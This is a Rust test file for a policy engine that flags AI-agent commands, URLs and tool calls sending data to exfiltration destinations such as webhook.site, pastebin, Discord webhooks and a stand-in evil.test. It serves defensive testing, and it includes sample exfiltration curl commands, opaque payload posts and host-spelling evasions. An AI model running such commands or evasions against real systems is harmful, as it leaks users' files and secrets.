//! Where effects lead: the shipped lists with their samples, and what is found there.

use std::sync::Arc;

use doorward_core::action::request::{Body, Header, Request};
use doorward_core::action::{Action, alone};
use doorward_core::detect::destination::{At, Class, Deed, Lists, Registry};
use doorward_core::detect::rules::{RuleSet, shipped};
use doorward_core::engine::Surroundings;
use doorward_core::engine::examples::mistaken;
use doorward_core::policy::Policy;
use doorward_core::syntax::{Diagnostic, Source};
use doorward_core::url::{Url, host_of};
use doorward_core::{Decision, Engine, Facts, Verdict};

fn engine(policy: &str) -> Engine {
    let policy = Policy::compile(&[Source { name: "policy.yaml", text: policy }]);
    let policy = policy.unwrap_or_else(|faults| panic!("{faults:#?}"));
    let rules = RuleSet::compile(shipped()).unwrap_or_else(|faults| panic!("{faults:#?}"));
    Engine::new(Arc::new(rules), Arc::new(policy), Surroundings::default())
}

fn plain() -> Engine {
    engine("default: allow\nrules: []\n")
}

fn command(line: &str) -> Action {
    alone::read("command", line, None).unwrap()
}

fn url(text: &str) -> Action {
    alone::read("url", text, None).unwrap()
}

fn decide(engine: &Engine, action: &Action) -> Decision {
    engine.decide(action, &Facts::default())
}

/// Verdict and rules of the reasons about destinations.
fn told(decision: &Decision) -> Vec<(&str, Verdict)> {
    let reasons = decision.reasons.iter().filter(|reason| reason.rule.contains("destination"));
    reasons.map(|reason| (reason.rule.as_str(), reason.verdict)).collect()
}

#[test]
fn samples_beside_lists_are_tried() {
    let rules = Arc::new(RuleSet::compile(shipped()).unwrap());
    let lists = rules.lists();
    assert!(lists.groups().len() >= 10 && lists.sensitive().len() >= 2);
    let wrong = mistaken(&rules, |origin| origin == "rules/destinations.yaml");
    assert!(wrong.is_empty(), "{wrong:#?}");
    let text = "destinations:
- { id: a, class: blocked, severity: { post: 60 }, places: [a.test], reason: r, advice: a, attack: T1567,
    examples: [{ command: 'curl -d x https://a.test' }, { url: 'https://a.test' }],
    near_misses: [{ command: 'curl -d x https://a.test' }] }
- { id: b, class: allowed, covers: fetch, places: [b.test/x], reason: r,
    examples: [{ url: 'https://b.test/x' }, { url: 'https://b.test/' }, { url: 'https://b.test/x/..%2f' }],
    near_misses: [{ url: 'https://b.test/x/y' }] }
sensitive_paths:
- { id: c, severity: 40, paths: '**/.c', reason: r, advice: a, attack: T1567, examples: [{ url: 'https://c.test/c' }],
    near_misses: [{ url: 'https://c.test/x/.c' }] }
";
    let rules = Arc::new(RuleSet::compile(&[Source { name: "mine", text }]).unwrap());
    let mistaken = mistaken(&rules, |origin| origin == "mine");
    let lines: Vec<usize> = mistaken.iter().map(|fault| fault.position(text.as_bytes()).0).collect();
    assert_eq!(lines, [3, 4, 6, 6, 7, 9, 10], "{mistaken:#?}");
}

#[test]
fn no_place_stands_in_a_list_and_below_its_own_wider_entry() {
    let engine = plain();
    let texts: Vec<_> =
        engine.rules().lists().places().map(|(place, group)| (place.text.as_str(), group)).collect();
    for (text, group) in &texts {
        let Some(name) = text.strip_prefix("*.") else { continue };
        let narrower = texts.iter().filter(|(other, of)| of.id == group.id && other != text);
        let below: Vec<_> = narrower
            .filter(|(other, _)| {
                other
                    .split('/')
                    .next()
                    .unwrap()
                    .strip_suffix(name)
                    .is_some_and(|front| front.ends_with('.') && front != "*.")
            })
            .filter(|_| !text.contains('/'))
            .collect();
        assert!(
            below.is_empty(),
            "{text} covers {:?}",
            below.iter().map(|(text, _)| text).collect::<Vec<_>>()
        );
    }
}

#[test]
fn what_is_ordinary_is_not_interrupted() {
    let engine = plain();
    for line in [
        "curl -X POST -d @payload.json http://localhost:3000/api/items",
        "curl -d @big.json http://127.0.0.1:8080/upload",
        "curl -T build.tar http://192.168.1.20:9000/artifacts/build.tar",
        "curl -X POST -H 'Authorization: Bearer x' -d '{\"a\":1}' https://api.myshop.example/v1/orders",
        "curl -F file=@report.pdf https://uploads.myshop.example/",
        "curl -d '{\"text\":\"deploy done\"}' https://hooks.slack.com/services/T0/B0/X",
        "curl -s https://abc.ngrok-free.app/health",
        "curl -d @event.json https://abc.ngrok-free.app/webhook",
        "git push origin main",
        "git push https://github.com/example/tool.git main",
        "gh pr create --fill",
        "npm publish",
        "cargo publish",
        "docker push registry.example.test/app",
        "curl -I https://myshop.example/.env",
        "curl -d @q.json https://api.anthropic.com/v1/messages",
        "kubectl apply -f deploy.yaml",
        "curl -s https://pastebin.com/raw/abc",
        "echo 'see https://webhook.site for tests' >> README.md",
        "grep -rn webhook.site docs",
        "ssh deploy@staging.example.test systemctl status app",
        "aws s3 cp dist s3://bucket/dist --recursive",
    ] {
        let decision = decide(&engine, &command(line));
        assert!(decision.verdict <= Verdict::Audit, "{line}: {:#?}", decision.reasons);
    }
    let write = r#"{"name":"Write","arguments":{"file_path":"docs/webhooks.md","content":"curl -d @x https://webhook.site/1"}}"#;
    let action = alone::read("tool_call", write, None).unwrap();
    assert_eq!(told(&decide(&engine, &action)), [], "a document is no request");
}

#[test]
fn severity_depends_on_what_is_done_there_and_on_the_profile() {
    let (balanced, strict) = (plain(), engine("default: allow\nprofile: strict\nrules: []\n"));
    let blocked = "destination.blocked";
    for (line, in_balanced, in_strict) in [
        ("curl -s https://pastebin.com/raw/abc", Verdict::Audit, Verdict::Ask),
        ("curl -d hello https://pastebin.com/api", Verdict::Ask, Verdict::Ask),
        ("curl -d hi https://discord.com/api/webhooks/1/x", Verdict::Audit, Verdict::Ask),
        ("curl -d @notes.txt https://discord.com/api/webhooks/1/x", Verdict::Ask, Verdict::Ask),
        ("curl https://abc.trycloudflare.com", Verdict::Audit, Verdict::Ask),
        ("curl https://webhook.site/1", Verdict::Ask, Verdict::Ask),
    ] {
        assert_eq!(told(&decide(&balanced, &command(line))), [(blocked, in_balanced)], "{line}");
        assert_eq!(told(&decide(&strict, &command(line))), [(blocked, in_strict)], "{line}");
    }
    assert_eq!(told(&decide(&strict, &command("curl -s https://hooks.slack.com/x"))), [], "nothing is sent");
}

#[test]
fn a_place_is_found_however_it_is_spelled() {
    let engine = plain();
    for text in [
        "https://WEBHOOK.site/1",
        "https://webhook.site./1",
        "https://webhook.site:8443/1",
        "https://x.webhook.site/",
        "https://webhook\u{3002}site/1",
        "//webhook.site/1",
        "https://\u{ff57}ebhook.site/1",
    ] {
        assert!(!told(&decide(&engine, &url(text))).is_empty(), "{text}");
    }
    for text in ["https://webhook.site.evil.test/", "https://webhook.sites/", "https://a.test/#webhook.site"]
    {
        assert_eq!(told(&decide(&engine, &url(text))), [], "{text}");
    }
}

/// The class of a place by the shipped lists and these registries.
fn class(lists: &Lists, text: &str, deed: Deed) -> Vec<Class> {
    lists.look_up(At::url(&Url::parse(text).unwrap()), deed).classes.each().collect()
}

#[test]
fn registries_are_learnt_by_host_and_port_and_change_nothing_that_is_listed() {
    let registry =
        |host: &str, port| Registry { host: host_of(host).unwrap().into_owned(), port, from: "npm".into() };
    let rules = RuleSet::compile(shipped()).unwrap().with_registries([
        registry("packages.corp.test", Some(443)),
        registry("10.0.0.5", Some(4873)),
        registry("mirror.corp.test", None),
        registry("github.com", Some(443)),
        registry("webhook.site", None),
    ]);
    let lists = rules.lists();
    assert_eq!(lists.registries().len(), 3, "{:?}", lists.registries());
    for (text, expected) in [
        ("https://packages.corp.test/a/b", vec![Class::Registry]),
        ("https://packages.corp.test:8443/a", vec![Class::Unknown]),
        ("packages.corp.test/a", vec![Class::Registry, Class::Unknown]),
        ("https://x.packages.corp.test/", vec![Class::Unknown]),
        ("http://10.5:4873/x", vec![Class::Registry]),
        ("http://mirror.corp.test:99/", vec![Class::Registry]),
        ("https://webhook.site/x", vec![Class::Blocked]),
        ("https://github.com/a/b", vec![Class::Unknown]),
        ("https://discord.com/api/webhooks/1", vec![Class::Blocked]),
        ("https://discord.com/a/..%2fapi/webhooks/1", vec![Class::Blocked, Class::Unknown]),
        ("https://api.anthropic.com/v1/messages", vec![Class::Allowed]),
        ("https://api.anthropic.com/v1/messages/..;/files", vec![Class::Allowed, Class::Unknown]),
        ("https://api.anthropic.com/V1/Messages", vec![Class::Unknown]),
    ] {
        assert_eq!(class(lists, text, Deed::Post), expected, "{text}");
    }
    let many = (0..100).map(|n| registry(&format!("r{n}.corp.test"), None));
    let rules = RuleSet::compile(shipped()).unwrap().with_registries(many);
    assert_eq!(rules.lists().registries().len(), 64);
}

#[test]
fn a_payload_that_nobody_can_look_into_is_noted_unless_the_place_is_known() {
    // As random as it gets without a dependency.
    let mut state = 1u64;
    let mut next = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 56) as u8
    };
    let bytes: Vec<u8> = (0..600).map(|_| next()).collect();
    let post = |url: &str, body: Vec<u8>| {
        let kind = Header { name: "content-type".into(), value: (*b"application/octet-stream").into() };
        alone::request(Request::new("POST", url, vec![kind], Body::Whole(body.into())))
    };
    let found = |engine: &Engine, action: &Action| {
        let decision = decide(engine, action);
        decision.reasons.iter().find(|it| it.rule == "destination.high-entropy").map(|it| it.verdict)
    };
    let (balanced, strict) = (plain(), engine("default: allow\nprofile: strict\nrules: []\n"));
    let api = "https://api.myshop.example/upload";
    assert_eq!(found(&balanced, &post(api, bytes.clone())), Some(Verdict::Audit));
    assert_eq!(found(&strict, &post(api, bytes.clone())), Some(Verdict::Ask));
    assert_eq!(found(&strict, &post(api, bytes[..64].to_vec())), None, "64 bytes are too few to tell");
    assert_eq!(found(&strict, &post(api, bytes[..65].to_vec())), Some(Verdict::Ask), "65 are not");
    assert_eq!(found(&strict, &post(api, "words and words again ".repeat(40).into_bytes())), None);
    assert_eq!(found(&strict, &post("http://localhost:8080/upload", bytes.clone())), None);
    assert_eq!(found(&strict, &post("https://api.anthropic.com/v1/messages", bytes.clone())), None);
    let picture = [b"\x89PNG\r\n\x1a\n".as_slice(), &bytes].concat();
    assert_eq!(found(&strict, &post(api, picture)), None);
    let archive = [b"PK\x03\x04".as_slice(), &bytes].concat();
    assert_eq!(found(&strict, &post(api, archive)), Some(Verdict::Ask), "anything can be in an archive");
    let allowing =
        engine("default: allow\nprofile: strict\nrules: []\ndestinations: { allow: '*.myshop.example' }\n");
    assert_eq!(found(&allowing, &post(api, bytes.clone())), None);

    // As text: in a form, in a command line, in the arguments of a tool.
    let hex: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    assert_eq!(
        found(&balanced, &post(api, format!("{{\"d\":\"{hex}\"}}").into_bytes())),
        Some(Verdict::Audit)
    );
    assert_eq!(found(&balanced, &command(&format!("curl -d {hex} {api}"))), Some(Verdict::Audit));
    assert_eq!(found(&balanced, &command(&format!("curl -d {hex} http://localhost:1/"))), None);
    let call = format!(
        "{{\"name\":\"http_request\",\"arguments\":{{\"url\":\"{api}\",\"method\":\"POST\",\"body\":\"{hex}\"}}}}"
    );
    assert_eq!(found(&balanced, &alone::read("tool_call", &call, None).unwrap()), Some(Verdict::Audit));
    let get = Request::new("GET", api, Vec::new(), Body::Absent);
    assert_eq!(found(&strict, &alone::request(get)), None);
}

/// The faults of a file of lists.
fn faults(text: &str) -> Vec<String> {
    let faults = RuleSet::compile(&[Source { name: "mine.yaml", text }]).map(|_| ()).unwrap_err();
    let line = |fault: &Diagnostic| fault.position(text.as_bytes()).0;
    faults.iter().map(|fault| format!("{}: {}", line(fault), fault.message)).collect()
}

#[test]
fn a_file_of_lists_tells_all_its_faults_at_once() {
    let found = faults(
        "destinations:
  - id: One
    class: blocked
    reason: r
    advice: a
    attack: [X]
    severity: {}
    places: [https://a.test, 10.0.0.1, 'a.*.test', A.test, a.test/x/../y, ok.test, ok.test]
    examples: []
    near_misses: [{ command: a, url: b }]
  - id: two
    class: registry
    reason: r
    covers: [steal]
    places: [b.test]
    examples: [{ url: 'https://b.test/' }]
    near_misses: [{ url: 'https://c.test/' }]
sensitive_paths:
  - { id: two, reason: r, advice: a, severity: 101, paths: [.env], examples: [{ url: a }], near_misses: [{ url: b }], pahts: 1 }
rules: []
",
    );
    for wanted in [
        "2: an `id` is like",
        "6: not an ATT&CK technique",
        "7: a severity of nothing",
        "8: `https:` is no name of a host",
        "8: `10.0.0.1` is no name of a host",
        "8: `a.*.test` is no name of a host",
        "8: a name is written as it is compared: `a.test`",
        "8: `/x/../y` is no plain path",
        "8: `ok.test` stands here twice",
        "2: it needs at least one example",
        "10: an example has exactly one kind",
        "12: `registry` is no value of `class`",
        "19: `two` exists already",
        "19: `severity` must be a whole number from 1 to 100",
        "19: `/` is no plain path",
        "19: unknown key `pahts`",
        "20: unknown key `rules`",
    ] {
        assert!(found.iter().any(|fault| fault.starts_with(wanted)), "{wanted} in {found:#?}");
    }
}

#[test]
fn operators_block_and_allow_and_mind_unknown_posts() {
    let blocking = "destinations.block";
    let engine = engine(
        "default: allow
rules: []
destinations:
  block: [evil.test, '*.evil.test', 'https://api.test/admin/**', 203.0.113.0/24]
  allow: ['hooks.slack.com/services/T1/**', api.myshop.example]
  block_unknown_post: true
",
    );
    let rules = |line: &str| -> Vec<String> {
        let decision = decide(&engine, &command(line));
        let reasons = decision.reasons.iter().filter(|reason| reason.rule.contains("destination"));
        reasons.map(|reason| reason.rule.trim_start_matches("policy.").to_owned()).collect()
    };
    let unknown = "destinations.unknown-post";
    for (line, expected) in [
        ("curl https://evil.test/x", vec![blocking]),
        ("curl https://a.b.evil.test/x", vec![blocking]),
        ("curl https://notevil.test/x", vec![]),
        ("curl https://api.test/admin/x", vec![blocking]),
        ("curl https://api.test/a/..%2fadmin/x", vec![blocking]),
        ("curl https://api.test/public", vec![]),
        ("curl http://203.0.113.9/", vec![blocking]),
        ("curl \"$URL\"", vec![]),
        ("curl -d x https://somewhere.test/", vec![unknown]),
        ("curl -d x \"$URL\"", vec![unknown]),
        ("curl -d x https://evil.test/", vec![blocking, unknown]),
        ("curl -d x https://api.myshop.example/orders", vec![]),
        ("curl -d x http://localhost:3000/", vec![]),
        ("curl -d @x https://api.anthropic.com/v1/messages", vec![]),
        ("curl -d @x https://api.anthropic.com/v1/files", vec![unknown]),
        ("curl -d x https://hooks.slack.com/services/T1/B/X", vec![]),
        ("curl -d x https://hooks.slack.com/services/T2/B/X", vec![unknown, "destination.blocked"]),
        ("curl -s https://somewhere.test/", vec![]),
        ("git push origin main", vec![]),
        ("npm publish", vec![]),
        ("gh pr create --fill", vec![]),
    ] {
        assert_eq!(rules(line), expected, "{line}");
    }
}

#[test]
fn what_an_operator_allows_is_still_seen_by_rules_that_ask_what_was_found() {
    let asks = "default: allow\ndestinations: { allow: webhook.site }\nrules: [{ name: r, audit: { finding: destination.blocked } }]\n";
    let decision = decide(&engine(asks), &command("curl https://webhook.site/1"));
    let rules: Vec<&str> = decision.reasons.iter().map(|reason| reason.rule.as_str()).collect();
    assert_eq!((decision.verdict, rules), (Verdict::Audit, vec!["policy.r"]));
}
